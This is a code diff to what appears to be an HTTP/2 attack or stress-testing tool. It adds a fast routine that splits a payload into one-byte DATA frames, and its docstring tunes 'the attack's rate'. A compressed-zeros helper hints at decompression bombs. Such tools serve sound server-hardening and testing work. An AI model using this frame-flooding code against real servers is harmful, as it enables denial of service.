@@ -234,11 +234,14 @@ class Connection:
             size = frame_size or self.max_frame
             chunk, view = view[:room], view[room:]
             last = END_STREAM if end_stream and not view else 0
-            frames = [raw_frame(DATA, 0, stream_id, bytes(chunk[i:i + size]))
-                      for i in range(0, room - size, size)]
-            tail = (room - 1) // size * size
-            frames.append(raw_frame(DATA, last, stream_id, bytes(chunk[tail:])))
-            if not self.send(b"".join(frames)):
+            if size == 1:
+                frames = one_byte_frames(stream_id, chunk, last)
+            else:
+                tail = (room - 1) // size * size
+                frames = b"".join([raw_frame(DATA, 0, stream_id, bytes(chunk[i:i + size]))
+                                   for i in range(0, tail, size)]
+                                  + [raw_frame(DATA, last, stream_id, bytes(chunk[tail:]))])
+            if not self.send(frames):
                 raise Gone
             self.connection_window -= room
             if stream_id in self.stream_windows:  # not reset meanwhile
@@ -466,6 +469,21 @@ def raw_frame(frame_type: int, flags: int, stream_id: int, payload: bytes) -> by
 
 DATA, WINDOW_UPDATE = 0x0, 0x8
 END_STREAM = 0x1
+
+
+def one_byte_frames(stream_id: int, payload: bytes, last_flags: int) -> bytes:
+    """`payload` as one DATA frame per byte, the last with `last_flags`.
+    Built by strided slice assignment, each of the ten byte positions of
+    a frame at once: a frame at a time in Python took about 1.4 s per
+    MiB, most of the attack's seconds, so the attack's rate depended on
+    how busy the machine was."""
+    header = raw_frame(DATA, 0, stream_id, b"\0")[:9]
+    frames = bytearray(10 * len(payload))
+    for position, value in enumerate(header):
+        frames[position::10] = bytes([value]) * len(payload)
+    frames[9::10] = payload
+    frames[-6] = last_flags
+    return bytes(frames)
 
 
 def compressed_zeros(algorithm: str, inflated: int) -> bytes:
